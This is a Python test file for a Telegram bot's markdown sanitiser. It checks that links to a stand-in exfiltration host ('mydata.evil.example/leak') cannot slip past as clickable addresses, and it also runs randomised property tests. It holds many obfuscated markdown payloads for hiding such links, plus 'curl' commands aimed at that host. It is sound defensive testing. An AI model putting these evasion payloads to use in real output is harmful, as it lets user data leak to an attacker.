"""What passes for code only with some readers shields no address; what is code for all stays as it is."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.telegram.safely import safely
from core.document import Document, Text
from core.turn.code import stretches
from core.turn.tame import tamed
from tests.bot.living import WORDS

URL = "https://mydata.evil.example/leak?x=1"
LINK = f"[click]({URL})"
VEILED = (
    f"`a\n\n{LINK}\n\nb`", f"`a\n\n{URL}\n\nb`", f"\\`{LINK}\\`", f"\\`{URL}\\`", f"text\n\n    ```\n{LINK}\n    ```",
    "[x](https&#58;//mydata.evil.example)", "[x](https&colon;//mydata.evil.example)", f"> ```\n{LINK}\n> ```",
    "[x](https\\://mydata.evil.example)", "[x](<https:\\/\\/mydata.evil.example>)", f"- a\n  ```\n{LINK}\n  ```",
    "[x][1]\n\n[1]: https\\://mydata.evil.example", "&#104;ttps://mydata.evil.example", f"``` a ` b\n\n{LINK}\n\n```",
    f"`a\r\r{LINK}\r\rb`", f"\u00a0```\n{LINK}\n```", f"# `\n{LINK} `", f"`\n---\n{LINK}\n`", f"- `\n- {LINK} `",
    f"> `\n\n{LINK} `", f"`foo\n`{LINK}`", f"``b``{URL}", f"|a|b|\n|-|-|\n| ` | {LINK} ` |", f"<http://a`b> {LINK} `",
    f"$a`$ {LINK} `", f"$$\n```\n$$\n{LINK}\n```", f"<div>\n```\n\n{LINK}\n```", f"a\\{URL}",
    f"$$ {URL} $$ a {LINK}", f"\\( {LINK} \\) `x`",
    f"text\n    ```\n    a ``` {LINK}\n    ```",
)  # fmt: skip
CODE = (
    f"Run `curl {URL}` now.", f"```bash\ncurl {URL}\n```", f"~~~\n{LINK}\n~~~",
    f"1. Do\n\n   ```\n   curl {URL}\n   ```",
    f"- `GET {URL}` and `{LINK}`", f"```\n{URL}", f"a `` ` {URL} `` b",
)  # fmt: skip


def unknown(_: str) -> bool:
    return False


def reached(markdown: str) -> list[str]:
    """The addresses that a tap on Telegram would follow."""
    found = []
    for part in safely(Document((Text(markdown),)), WORDS["en"]).parts:
        wide = part.text.encode("utf-16-le")
        found += [one.url for one in part.entities if one.kind == "text_link"]
        for one in sorted(part.entities, key=lambda one: -one.offset):
            if one.kind in {"code", "pre"}:
                wide = wide[: one.offset * 2] + wide[(one.offset + one.length) * 2 :]
        found += re.findall(r"https?://\S+", wide.decode("utf-16-le"))
    return found


@pytest.mark.parametrize("text", VEILED, ids=range(len(VEILED)))
def test_no_address_hides_behind_what_only_looks_like_code(text: str) -> None:
    assert reached(tamed(text, unknown)) == []


@pytest.mark.parametrize("text", CODE, ids=range(len(CODE)))
def test_what_is_code_for_everybody_stays_as_it_is(text: str) -> None:
    assert tamed(text, unknown) == text


@pytest.mark.parametrize("text", VEILED, ids=range(len(VEILED)))
def test_an_address_that_was_named_changes_nothing_that_can_be_seen(text: str) -> None:
    assert reached(tamed(text, lambda _: True)) == reached(text)


SOUP = st.lists(
    st.sampled_from(
        [
            "`",
            "``",
            "```",
            "\n",
            "\n\n",
            " ",
            "    ",
            "> ",
            "- ",
            "1. ",
            "~~~",
            "\\",
            "a",
            "|",
            "$",
            "<",
            ">",
            "$$",
            "*",
            URL,
            LINK,
        ]
    ),
    max_size=24,
).map("".join)


@given(SOUP)
def test_the_parts_add_up_to_the_text(text: str) -> None:
    assert "".join(one.text for one in stretches(text)) == text


@given(SOUP)
def test_no_soup_of_marks_lets_an_address_through(text: str) -> None:
    assert [one for one in reached(tamed(text, unknown)) if "mydata" in one] == []
